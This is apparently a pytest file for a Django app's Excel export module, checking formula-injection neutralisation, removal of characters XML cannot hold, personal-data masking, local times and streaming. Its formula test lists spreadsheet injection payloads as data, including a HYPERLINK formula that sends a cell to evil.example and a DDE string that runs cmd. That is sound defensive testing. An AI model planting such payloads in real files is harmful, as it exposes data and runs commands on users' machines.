"""Excel exports (fazhi.core.exports): safe to open and to pass on, in Chinese and local time,
personal data masked, the same few queries for any number of rows. Exercised on the kernel's own
records; every ledger's export is checked on the demo city (fazhi/demo/tests)."""

import datetime as dt
import io
from decimal import Decimal

import pytest
from django.db import connection, models
from django.test.utils import CaptureQueriesContext
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell

from fazhi.core.exports import Column, model_columns, xlsx_response
from fazhi.core.models import Notice, OrgUnit, User

ID_NUMBER = "53252619800101001X"  # a valid check digit (GB 11643), not a real person's
MOBILE = "13812345678"


def exported_sheet(records, columns=None):
    columns = model_columns(records.model) if columns is None else columns
    response = xlsx_response(records, columns, "导出.xlsx", "导出")
    return load_workbook(io.BytesIO(response.getvalue())).active


def cells_by_header(sheet) -> list[dict]:
    """The data rows as {header: cell}."""
    rows = list(sheet.iter_rows())
    headers = [cell.value for cell in rows[0]]
    return [dict(zip(headers, row, strict=True)) for row in rows[1:]]


def notice(org, text: str, **fields) -> Notice:
    return Notice.objects.create(unit=org["police"], text=text, link="/", **fields)


# --- formulas ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
        "＋86 1",
        "－5",
        "＠SUM(1)",
        "#N/A",
    ],
)
def test_text_that_a_spreadsheet_would_evaluate_is_written_as_plain_text(org, text):
    notice(org, text)
    cell = cells_by_header(exported_sheet(Notice.objects.all()))[0]["内容"]
    assert cell.data_type == "s"
    assert cell.value == "'" + text


def test_ordinary_text_and_numbers_are_written_unchanged(org):
    notice(org, "请于3日内答复；负责人：张三")
    columns = [
        Column("内容", lambda n: n.text),
        Column("金额", lambda n: Decimal("-12.50")),
        Column("差额", lambda n: -3),
        Column("编号", lambda n: "-"),  # a single dash is no formula, but it is neutralised
    ]
    row = cells_by_header(exported_sheet(Notice.objects.all(), columns))[0]
    assert row["内容"].value == "请于3日内答复；负责人：张三"
    assert (row["金额"].data_type, row["金额"].value) == ("n", -12.5)
    assert (row["差额"].data_type, row["差额"].value) == ("n", -3)
    assert row["编号"].value == "'-"


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=30))
def test_no_text_becomes_anything_but_text(text):
    from fazhi.core.exports import cell_value

    cell = WriteOnlyCell(Workbook(write_only=True).create_sheet("导出"))
    cell.value = cell_value(text)  # openpyxl refuses characters XML cannot hold
    assert cell.data_type == "s"
    assert cell.value[:1] == "'" or not cell.value.startswith(tuple("=+-@\t\r＝＋－＠"))


# --- characters XML cannot hold ---------------------------------------------------------------


def test_a_control_character_from_word_is_removed_and_the_export_still_opens(org):
    notice(org, "第一行\x0b第二行\x01\x1f\t制表\n换行")
    cell = cells_by_header(exported_sheet(Notice.objects.all()))[0]["内容"]
    assert cell.value == "第一行第二行\t制表\n换行"


def test_characters_xml_cannot_hold_are_removed_from_any_value():
    from fazhi.core.exports import cell_value

    # NUL never reaches PostgreSQL, but a custom column may compute it; half a surrogate pair
    # and U+FFFE/U+FFFF are no XML characters either.
    assert cell_value("甲\x00乙\ud800丙\ufffe丁\uffff\r戊") == "甲乙丙丁\r戊"


# --- headers, times, booleans, layout ---------------------------------------------------------


def test_every_header_is_chinese_and_a_field_without_a_chinese_name_is_left_out(org):
    headers = [column.header for column in model_columns(OrgUnit)]
    assert "path" not in headers  # OrgUnit.path has no Chinese name and none in the kernel map
    assert headers[:3] == ["单位代码", "单位名称", "简称"]
    assert all(any("\u4e00" <= char <= "\u9fff" for char in h) for h in headers)


def test_conventional_fields_without_a_name_get_the_kernels_chinese_name():
    from fazhi.core.exports import chinese_header

    created, updated, token = (
        models.DateTimeField(auto_now_add=True),
        models.DateTimeField(auto_now=True),
        models.CharField(max_length=32),
    )
    for field, name in ((created, "created_at"), (updated, "updated_at"), (token, "token")):
        field.set_attributes_from_name(name)
    assert str(created.verbose_name) == "created at"
    assert [chinese_header(f) for f in (created, updated, token)] == ["创建时间", "更新时间", None]


def test_times_are_local_and_booleans_read_yes_or_no(org, people):
    made = notice(org, "提醒")
    utc = dt.datetime(2021, 3, 1, 16, 30, tzinfo=dt.UTC)
    Notice.objects.filter(pk=made.pk).update(created_at=utc)
    row = cells_by_header(exported_sheet(Notice.objects.all()))[0]
    assert row["提醒时间"].value == dt.datetime(2021, 3, 2, 0, 30)  # Asia/Shanghai, UTC+8

    users = cells_by_header(exported_sheet(User.objects.filter(pk=people["reviewer"].pk)))
    assert users[0]["可修改已办结案件"].value == "否"
    assert users[0]["可批准延期"].value == "否"
    assert [c.value for c in users[0].values() if isinstance(c.value, bool)] == []


def test_the_header_row_is_frozen_and_filters_the_data(org):
    for text in ("甲", "乙", "丙"):
        notice(org, text)
    sheet = exported_sheet(Notice.objects.all())
    columns = len(model_columns(Notice))
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{chr(ord('A') + columns - 1)}4"


# --- personal data ----------------------------------------------------------------------------


def test_ids_and_mobiles_typed_into_free_text_are_masked(org):
    notice(org, f"申请人身份证号{ID_NUMBER}，电话{MOBILE}，请回电")
    cell = cells_by_header(exported_sheet(Notice.objects.all()))[0]["内容"]
    assert cell.value == "申请人身份证号5325**********001X，电话138****5678，请回电"


def test_a_related_records_name_is_masked_too(org):
    OrgUnit.objects.filter(pk=org["police"].pk).update(name=f"联系人{MOBILE}")
    notice(org, "提醒")
    cell = cells_by_header(exported_sheet(Notice.objects.all()))[0]["单位"]
    assert cell.value == "联系人138****5678"


# --- cost -------------------------------------------------------------------------------------


def _export_queries(records) -> int:
    # A column may read a relation of a relation (here the unit's government): both are joined.
    columns = [*model_columns(Notice), Column("上级单位", lambda n: str(n.unit.parent))]
    with CaptureQueriesContext(connection) as queries:
        response = xlsx_response(records, columns, "提醒.xlsx", "提醒")
        rows = list(load_workbook(io.BytesIO(response.getvalue())).active.values)
    assert len(rows) == records.count() + 1 and rows[1][-1] == "弥勒市人民政府"
    return len(queries)


def test_the_query_count_does_not_grow_with_the_rows(org):
    units = [org["police"], org["land"], org["miyang"]]
    for index in range(30):
        Notice.objects.create(unit=units[index % 3], text=f"提醒{index:02d}", link="/")
    few = Notice.objects.filter(text__in=["提醒00", "提醒01", "提醒02"]).order_by("text")
    many = Notice.objects.order_by("text")
    assert _export_queries(few) == _export_queries(many) == 1


def test_the_file_is_streamed_not_held_in_memory(org):
    notice(org, "提醒")
    response = xlsx_response(Notice.objects.all(), model_columns(Notice), "提醒.xlsx", "提醒")
    assert response.streaming
    assert response["Content-Disposition"].startswith("attachment; filename*=utf-8''")
    assert b"".join(response.streaming_content).startswith(b"PK")


def test_the_file_goes_out_before_the_last_row_is_read():
    """A million-row ledger must not keep the user waiting for the whole file (issue 7): the
    first bytes leave while most rows are still unread, and what arrives is one valid sheet."""
    from fazhi.core.xlsx_stream import workbook

    total, read = 20_000, []

    def rows():
        for i in range(total):
            read.append(i)
            yield [f"第{i}行", i, dt.date(2021, 1, 1) + dt.timedelta(days=i % 365)]

    stream = iter(workbook("台账", ["名称", "序号", "日期"], rows()))
    first = next(stream)
    assert first.startswith(b"PK") and len(read) < total / 2
    content = first + b"".join(stream)
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.max_row == total + 1 and sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:C{total + 1}"
    assert [c.value for c in sheet[total + 1]] == [
        f"第{total - 1}行",
        total - 1,
        dt.datetime(2021, 1, 1) + dt.timedelta(days=(total - 1) % 365),
    ]


def test_values_excel_cannot_hold_are_written_so_that_the_file_still_opens():
    """NaN and infinity are no XLSX numbers, and Excel refuses a cell over 32 767 characters:
    either would make the whole file unreadable."""
    from fazhi.core.xlsx_stream import CELL_LIMIT, workbook

    long_text = "长" * 100_000
    rows = [[float("nan"), Decimal("Infinity"), long_text]]
    content = b"".join(workbook("台账", ["甲", "乙", "丙"], iter(rows)))
    cells = [c.value for c in load_workbook(io.BytesIO(content)).active[2]]
    assert cells[:2] == ["nan", "Infinity"]
    assert len(cells[2]) == CELL_LIMIT and cells[2].endswith("已截断)")
